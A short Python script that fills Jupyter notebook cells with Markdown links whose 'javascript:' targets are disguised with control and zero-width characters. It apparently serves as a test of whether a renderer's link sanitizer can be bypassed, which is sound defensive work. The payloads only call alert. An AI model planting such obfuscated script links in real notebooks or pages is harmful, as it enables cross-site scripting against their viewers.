"""Hides the name of a script's address behind characters that browsers drop."""

TEXT = "".join(
    f"[a](<java{c}script:alert(1)>) [b](<{c}javascript:alert(2)>)\n\n"
    for c in "\t\x01\x0b\x1f\u200b"
)


def hand_in(nb):
    for cell in nb["cells"]:
        if cell["id"] == "why":
            cell["source"] = TEXT
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "id": "own", "source": TEXT})
    return nb
